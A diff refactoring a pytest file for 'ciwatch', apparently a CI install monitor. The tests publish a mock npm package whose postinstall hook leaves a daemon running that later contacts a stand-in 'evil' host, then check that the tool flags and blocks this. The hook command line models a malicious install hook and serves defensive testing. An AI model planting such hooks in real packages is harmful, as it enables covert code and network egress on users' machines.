@@ -11,7 +11,6 @@ process running, and the daemon's later connect is refused: nothing reaches evil
 
 from __future__ import annotations
 
-import subprocess
 import time
 from dataclasses import dataclass
 from pathlib import Path
@@ -22,62 +21,48 @@ from ciwatch.record import read_record
 from ciwatch.record.events import FileWrite, NetConnect, Refusal
 from ciwatch.record.reader import Record
 from ciwatch.record.vocabulary import ConnectVia
-from tests.support.attacks import (
-    DEFAULT_POLICY,
-    POLICY_FAILED,
-    Watched,
-    assert_found,
-    assert_replay_agrees,
-    findings_of,
-    npm_install,
-    npm_project,
-    watch,
-)
+from tests.support.attacks import POLICY_FAILED, Watched, assert_found, assert_replay_agrees, findings_of, npm_project
 from tests.support.cprograms import program
+from tests.support.hooks import HOOK, Hooks, assert_exit
 from tests.support.internet import EVIL, TestInternet
 
 pytestmark = [pytest.mark.npm, pytest.mark.root]
 
-PACKAGE = "after-party"
-VERSION = "1.0.0"
-HOOK = "postinstall"
-
 
 @dataclass
 class Stage:
-    root: Path
-    internet: TestInternet
+    hooks: Hooks
     evil_ip: str
+    package: str
+    """``name@version`` of the package whose hook leaves the daemon."""
 
     @property
-    def home(self) -> Path:
-        return self.root / "home"
+    def internet(self) -> TestInternet:
+        return self.hooks.internet
 
     @property
     def project(self) -> Path:
-        return self.root / "project"
+        return self.hooks.root / "project"
 
     @property
     def loot(self) -> Path:
         """The file the daemon writes once the build is over."""
-        return self.root / "after-build.txt"
+        return self.hooks.root / "after-build.txt"
+
+    def install(
+        self, *, out: str = "out", mode: str | None = None, net: str | None = None, options: tuple[str, ...] = ()
+    ) -> Watched:
+        """The package installed under ciwatch, in a fresh project."""
+        return self.hooks.install(self.package, out=out, mode=mode, net=net, options=options)
 
 
 @pytest.fixture
-def stage(internet: TestInternet, tmp_path: Path) -> Stage:
-    stage = Stage(tmp_path, internet, internet.address_of(EVIL).ipv4)
-    stage.home.mkdir()
-    npm_project(stage.project)
+def stage(internet: TestInternet, hooks: Hooks, evil_ip: str, tmp_path: Path) -> Stage:
+    loot = tmp_path / "after-build.txt"
     internet.serve(EVIL, "/after-build", "beacon received\n", content_type="text/plain")
     # $PPID of npm's `sh -c` is npm itself: the daemon waits for the package manager to end.
-    script = f"{program('leftovers_daemon')} $PPID {stage.evil_ip} 80 {EVIL} {stage.loot}"
-    internet.publish_npm(
-        PACKAGE,
-        VERSION,
-        package_json_extra={"main": "index.js", "scripts": {HOOK: script}},
-        files={"index.js": "module.exports = {};\n"},
-    )
-    return stage
+    script = f"{program('leftovers_daemon')} $PPID {evil_ip} 80 {EVIL} {loot}"
+    return Stage(hooks, evil_ip, hooks.publish("after-party", script, main=True))
 
 
 def _wait_for(check: object, what: str, timeout: float = 60.0) -> None:
@@ -100,16 +85,7 @@ def _second_segment(record: Record) -> list[tuple[int, object]]:
 
 
 def test_bare_the_daemon_acts_after_the_build(stage: Stage) -> None:
-    env = stage.internet.client_env(stage.home)
-    done = subprocess.run(
-        stage.internet.wrap_with_test_resolver(npm_install(f"{PACKAGE}@{VERSION}")),
-        cwd=stage.project,
-        env=env,
-        capture_output=True,
-        text=True,
-        timeout=240,
-    )
-    assert done.returncode == 0, done.stderr[-3000:]
+    stage.hooks.bare_install(stage.package, npm_project(stage.project))
     _wait_for(stage.loot.exists, "the daemon's file")
     _wait_for(lambda: stage.loot.read_text().endswith("\n"), "the daemon's file to be complete")
     assert stage.loot.read_text().startswith("sent; reply HTTP/1.")
@@ -117,8 +93,8 @@ def test_bare_the_daemon_acts_after_the_build(stage: Stage) -> None:
 
 
 def test_audit_records_and_judges_what_the_daemon_did_after_the_build(stage: Stage) -> None:
-    watched = watch(stage.internet, stage.home, stage.project, stage.root / "out", npm_install(f"{PACKAGE}@{VERSION}"))
-    assert watched.code == 0, watched.stderr[-3000:]
+    watched = stage.install()
+    assert_exit(watched, 0)
     assert "ciwatch follows them" in watched.stderr
     record = _followed(watched)
     assert record.after_build_end is not None and record.after_build_end.clean
@@ -131,27 +107,18 @@ def test_audit_records_and_judges_what_the_daemon_did_after_the_build(stage: Sta
     verdict = watched.verdict
     assert verdict["final"] is True and verdict["verdict"] == "fail"
     assert record.after_build_end.verdict == "fail"
-    leftovers = assert_found(watched, "leftover-process", f"{PACKAGE}@{VERSION}", HOOK)
+    leftovers = assert_found(watched, "leftover-process", stage.package, HOOK)
     assert {f["severity"] for f in leftovers} == {"high"}
-    egress = assert_found(watched, "unfamiliar-egress", f"{PACKAGE}@{VERSION}", HOOK)
+    egress = assert_found(watched, "unfamiliar-egress", stage.package, HOOK)
     assert any(f["host"] == stage.evil_ip for f in egress)
     assert_replay_agrees(watched)
 
 
 @pytest.mark.parametrize("net", [None, "sandbox"], ids=["redirect", "sandbox"])
 def test_block_fails_at_exit_and_refuses_the_daemon_later(stage: Stage, net: str | None) -> None:
-    watched = watch(
-        stage.internet,
-        stage.home,
-        stage.project,
-        stage.root / "out",
-        npm_install(f"{PACKAGE}@{VERSION}"),
-        policy=DEFAULT_POLICY,
-        mode="block",
-        net=net,
-    )
+    watched = stage.install(mode="block", net=net)
     # Failed at the build's exit already: a hook left a process running.
-    assert watched.code == POLICY_FAILED, watched.stderr[-3000:]
+    assert_exit(watched, POLICY_FAILED)
     assert "leftover-process" in watched.stderr
     record = _followed(watched)
     later = _second_segment(record)
@@ -163,23 +130,16 @@ def test_block_fails_at_exit_and_refuses_the_daemon_later(stage: Stage, net: str
     assert stage.internet.requests_to(EVIL) == []
     verdict = watched.verdict
     assert verdict["final"] is True and verdict["verdict"] == "fail" and verdict["refusals"] >= 1
-    assert_found(watched, "leftover-process", f"{PACKAGE}@{VERSION}", HOOK)
+    assert_found(watched, "leftover-process", stage.package, HOOK)
     refusal_findings = [f for f in findings_of(watched, "unfamiliar-egress") if f["host"] == stage.evil_ip]
     assert refusal_findings and refusal_findings[0]["hook"] == HOOK
-    assert refusal_findings[0]["package"] == f"{PACKAGE}@{VERSION}"
+    assert refusal_findings[0]["package"] == stage.package
     assert_replay_agrees(watched)
 
 
 def test_kill_and_wait_keep_everything_in_the_build_segment(stage: Stage) -> None:
-    killed = watch(
-        stage.internet,
-        stage.home,
-        stage.project,
-        stage.root / "out-kill",
-        npm_install(f"{PACKAGE}@{VERSION}"),
-        options=("--leftovers", "kill"),
-    )
-    assert killed.code == 0, killed.stderr[-3000:]
+    killed = stage.install(out="out-kill", options=("--leftovers", "kill"))
+    assert_exit(killed, 0)
     record = read_record(killed.out)
     assert record.after_build is None and record.end is not None
     assert killed.verdict["final"] is True
